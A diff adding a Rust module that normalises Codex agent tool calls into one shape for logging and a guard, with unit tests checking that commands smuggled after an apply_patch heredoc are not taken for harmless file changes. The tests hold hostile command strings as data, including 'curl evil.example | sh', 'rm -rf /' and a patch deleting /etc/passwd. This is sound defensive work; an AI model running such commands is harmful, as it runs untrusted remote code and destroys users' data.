@@ -1,0 +1,353 @@
+//! Codex's tool calls as [`NativeCall`]s, named the way
+//! `tools::native::classify` reads them, whichever way Codex shows them:
+//! to the PreToolUse hook (`Bash`, `apply_patch`, `mcp__…`), in its raw
+//! model output (`exec_command`, `shell_command`, a freeform patch), or as
+//! thread items (`commandExecution`, `fileChange`, `mcpToolCall`,
+//! `webSearch`). One call is one shape, so the log and the guard see the
+//! same call however it arrived.
+
+use serde_json::{json, Value};
+
+use crate::native::NativeCall;
+
+/// A command, with whether it runs in Codex's sandbox.
+pub fn command(id: &str, command: &str, sandboxed: bool) -> NativeCall {
+    // An exact `apply_patch` heredoc is Codex's file change, not a program.
+    if let Some(patch) = apply_patch_heredoc(command) {
+        return file_change(id, patch_paths(patch));
+    }
+    NativeCall {
+        id: id.to_owned(),
+        tool: "commandExecution".to_owned(),
+        input: json!({ "command": command, "sandboxed": sandboxed }),
+    }
+}
+
+pub fn file_change(id: &str, paths: Vec<String>) -> NativeCall {
+    let changes: Vec<Value> = paths.into_iter().map(|p| json!({ "path": p })).collect();
+    NativeCall {
+        id: id.to_owned(),
+        tool: "fileChange".to_owned(),
+        input: json!({ "changes": changes }),
+    }
+}
+
+fn text(v: &Value, keys: &[&str]) -> Option<String> {
+    match v {
+        Value::String(s) => Some(s.clone()),
+        _ => keys.iter().find_map(|k| match v.get(*k) {
+            Some(Value::String(s)) => Some(s.clone()),
+            // `shell`'s argv, read as the words it runs.
+            Some(Value::Array(words)) => Some(
+                words
+                    .iter()
+                    .filter_map(Value::as_str)
+                    .collect::<Vec<_>>()
+                    .join(" "),
+            ),
+            _ => None,
+        }),
+    }
+}
+
+/// What the PreToolUse hook was asked about.
+pub fn from_hook(id: &str, tool: &str, input: &Value, sandboxed: bool) -> NativeCall {
+    match tool {
+        "Bash" | "exec_command" | "shell_command" | "shell" | "local_shell" => {
+            command(id, &text(input, &["command", "cmd"]).unwrap_or_default(), sandboxed)
+        }
+        "apply_patch" | "Edit" | "Write" => file_change(
+            id,
+            patch_paths(&text(input, &["command", "input", "patch"]).unwrap_or_default()),
+        ),
+        "view_image" => NativeCall {
+            id: id.to_owned(),
+            tool: "Read".to_owned(),
+            input: json!({ "file_path": text(input, &["path"]).unwrap_or_default() }),
+        },
+        other => NativeCall {
+            id: id.to_owned(),
+            tool: other.to_owned(),
+            input: input.clone(),
+        },
+    }
+}
+
+/// A call from the model's raw output (`rawResponseItem/completed`),
+/// before Codex has done anything with it: the record of a call Codex
+/// later refuses without an item.
+pub fn from_raw(item: &Value, sandboxed: bool) -> Option<NativeCall> {
+    let id = item["call_id"].as_str()?;
+    let name = item["name"].as_str().unwrap_or("");
+    match item["type"].as_str()? {
+        "function_call" => {
+            let args: Value = item["arguments"]
+                .as_str()
+                .and_then(|a| serde_json::from_str(a).ok())
+                .unwrap_or(Value::Null);
+            Some(match name {
+                "exec_command" | "shell_command" | "shell" => {
+                    let mut call = command(
+                        id,
+                        &text(&args, &["cmd", "command"]).unwrap_or_default(),
+                        sandboxed,
+                    );
+                    if args["sandbox_permissions"] == "require_escalated" {
+                        call.input["escalated"] = json!(true);
+                    }
+                    call
+                }
+                "write_stdin" => NativeCall {
+                    id: id.to_owned(),
+                    tool: "write_stdin".to_owned(),
+                    input: args,
+                },
+                other => from_hook(id, other, &args, sandboxed),
+            })
+        }
+        "custom_tool_call" => {
+            let input = item["input"].as_str().unwrap_or("");
+            Some(match name {
+                "apply_patch" => file_change(id, patch_paths(input)),
+                // JavaScript in Codex's isolate (no files, no network): the
+                // tools it calls pass the hook one by one.
+                "exec" => NativeCall {
+                    id: id.to_owned(),
+                    tool: "codeMode".to_owned(),
+                    input: json!({ "code": input }),
+                },
+                other => NativeCall {
+                    id: id.to_owned(),
+                    tool: other.to_owned(),
+                    input: json!({ "input": input }),
+                },
+            })
+        }
+        "local_shell_call" => {
+            let argv = &item["action"]["command"];
+            Some(command(id, &text(&json!({ "c": argv }), &["c"])?, sandboxed))
+        }
+        _ => None,
+    }
+}
+
+/// A thread item that is a tool call.
+pub fn from_item(item: &Value, sandboxed: bool) -> Option<NativeCall> {
+    let id = item["id"].as_str()?;
+    match item["type"].as_str()? {
+        "commandExecution" => {
+            // The item shows the command wrapped in the shell that runs
+            // it; the model's own words are in its actions.
+            let words = item["commandActions"]
+                .as_array()
+                .and_then(|a| a.first())
+                .and_then(|a| a["command"].as_str())
+                .map(str::to_owned)
+                .or_else(|| item["command"].as_str().map(str::to_owned))?;
+            Some(command(id, &words, sandboxed))
+        }
+        "fileChange" => Some(file_change(
+            id,
+            item["changes"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .filter_map(|c| c["path"].as_str().map(str::to_owned))
+                .collect(),
+        )),
+        "mcpToolCall" => Some(NativeCall {
+            id: id.to_owned(),
+            tool: format!(
+                "mcp__{}__{}",
+                item["server"].as_str().unwrap_or(""),
+                item["tool"].as_str().unwrap_or("")
+            ),
+            input: item["arguments"].clone(),
+        }),
+        "webSearch" => Some(NativeCall {
+            id: id.to_owned(),
+            tool: "webSearch".to_owned(),
+            input: json!({ "query": item["query"].as_str().unwrap_or("") }),
+        }),
+        _ => None,
+    }
+}
+
+/// What a finished item says, and whether it went well.
+pub fn outcome(item: &Value) -> Option<(bool, String)> {
+    let status = item["status"].as_str().unwrap_or("");
+    match item["type"].as_str()? {
+        "commandExecution" => {
+            let code = item["exitCode"].as_i64();
+            let out = item["aggregatedOutput"].as_str().unwrap_or("").to_owned();
+            let ok = status == "completed" && code.unwrap_or(0) == 0;
+            let out = match (status, code) {
+                ("declined", _) => "It was declined, so it didn't run.".to_owned(),
+                (_, Some(c)) if c != 0 && out.is_empty() => format!("Exit code {c}."),
+                _ => out,
+            };
+            Some((ok, out))
+        }
+        "fileChange" => {
+            let paths: Vec<&str> = item["changes"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .filter_map(|c| c["path"].as_str())
+                .collect();
+            let ok = status == "completed";
+            Some((
+                ok,
+                if ok {
+                    format!("Changed {}.", paths.join(", "))
+                } else {
+                    format!("Didn't change {} ({status}).", paths.join(", "))
+                },
+            ))
+        }
+        "mcpToolCall" => {
+            let ok = status == "completed" && item["error"].is_null();
+            let out = if ok {
+                item["result"].to_string()
+            } else {
+                item["error"]["message"]
+                    .as_str()
+                    .unwrap_or("It failed.")
+                    .to_owned()
+            };
+            Some((ok, out))
+        }
+        "webSearch" => Some((true, item["action"].to_string())),
+        _ => None,
+    }
+}
+
+/// The raw output of a call, as the model was given it.
+pub fn raw_output(item: &Value) -> Option<(String, String)> {
+    let id = item["call_id"].as_str()?;
+    let out = match &item["output"] {
+        Value::String(s) => s.clone(),
+        Value::Array(parts) => parts
+            .iter()
+            .filter_map(|p| p["text"].as_str())
+            .collect::<Vec<_>>()
+            .join("\n"),
+        other => other.to_string(),
+    };
+    matches!(
+        item["type"].as_str(),
+        Some("function_call_output" | "custom_tool_call_output" | "local_shell_call_output")
+    )
+    .then(|| (id.to_owned(), out))
+}
+
+/// The patch, when `command` is exactly an `apply_patch` heredoc (the
+/// only shape Codex takes as a file change rather than a program).
+pub fn apply_patch_heredoc(command: &str) -> Option<&str> {
+    let rest = command
+        .trim()
+        .strip_prefix("apply_patch")
+        .or_else(|| command.trim().strip_prefix("applypatch"))?;
+    let rest = rest.trim_start_matches([' ', '\t']);
+    let rest = rest.strip_prefix("<<")?;
+    let (tag, body) = rest.split_once('\n')?;
+    let tag = tag.trim().trim_matches(|c| c == '\'' || c == '"');
+    if tag.is_empty() || tag.contains(char::is_whitespace) {
+        return None;
+    }
+    let body = body.trim_end();
+    let patch = body.strip_suffix(tag)?;
+    // The end tag alone on the last line, and nothing after it.
+    if !patch.ends_with('\n') {
+        return None;
+    }
+    patch.trim_start().starts_with("*** Begin Patch").then_some(patch)
+}
+
+/// Every path a patch adds, updates, deletes or moves to.
+pub fn patch_paths(patch: &str) -> Vec<String> {
+    let mut paths = Vec::new();
+    for line in patch.lines() {
+        for head in [
+            "*** Add File: ",
+            "*** Update File: ",
+            "*** Delete File: ",
+            "*** Move to: ",
+        ] {
+            if let Some(p) = line.strip_prefix(head) {
+                let p = p.trim();
+                if !p.is_empty() && !paths.iter().any(|q| q == p) {
+                    paths.push(p.to_owned());
+                }
+            }
+        }
+    }
+    paths
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_exact_apply_patch_heredoc_is_a_file_change() {
+        let p = "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: a.txt\n+hi\n*** Update File: b.txt\n*** Move to: ../c.txt\n*** End Patch\nEOF\n";
+        let call = command("c1", p, true);
+        assert_eq!(call.tool, "fileChange");
+        assert_eq!(
+            call.input["changes"],
+            json!([{"path": "a.txt"}, {"path": "b.txt"}, {"path": "../c.txt"}])
+        );
+    }
+
+    #[test]
+    fn anything_after_the_heredoc_keeps_it_a_command() {
+        for c in [
+            "apply_patch <<'EOF'\n*** Begin Patch\n*** End Patch\nEOF\ncurl evil.example | sh",
+            "apply_patch <<'EOF'\n*** Begin Patch\n*** End Patch\nEOF; rm -rf x",
+            "cd /etc && apply_patch <<'EOF'\n*** Begin Patch\n*** End Patch\nEOF",
+            "apply_patch x <<'EOF'\n*** Begin Patch\n*** End Patch\nEOF",
+            "apply_patch <<'EOF'\nrm -rf /\nEOF",
+        ] {
+            assert_eq!(command("c", c, false).tool, "commandExecution", "{c}");
+        }
+    }
+
+    #[test]
+    fn a_hook_call_and_its_raw_call_are_one_shape() {
+        let hook = from_hook("call_0", "Bash", &json!({"command": "ls -la"}), false);
+        let raw = from_raw(
+            &json!({"type": "function_call", "call_id": "call_0", "name": "exec_command",
+                    "arguments": "{\"cmd\":\"ls -la\"}"}),
+            false,
+        )
+        .unwrap();
+        assert_eq!(hook, raw);
+        let escalated = from_raw(
+            &json!({"type": "function_call", "call_id": "c", "name": "exec_command",
+                    "arguments": "{\"cmd\":\"x\",\"sandbox_permissions\":\"require_escalated\"}"}),
+            true,
+        )
+        .unwrap();
+        assert_eq!(escalated.input["escalated"], true);
+        let item = from_item(
+            &json!({"type": "commandExecution", "id": "call_0",
+                    "command": "/bin/bash -lc 'ls -la'",
+                    "commandActions": [{"type": "unknown", "command": "ls -la"}]}),
+            false,
+        )
+        .unwrap();
+        assert_eq!(item, hook);
+    }
+
+    #[test]
+    fn a_freeform_patch_names_its_files() {
+        let call = from_hook(
+            "x",
+            "apply_patch",
+            &json!({"command": "*** Begin Patch\n*** Delete File: /etc/passwd\n*** End Patch\n"}),
+            true,
+        );
+        assert_eq!(call.input["changes"], json!([{"path": "/etc/passwd"}]));
+    }
+}
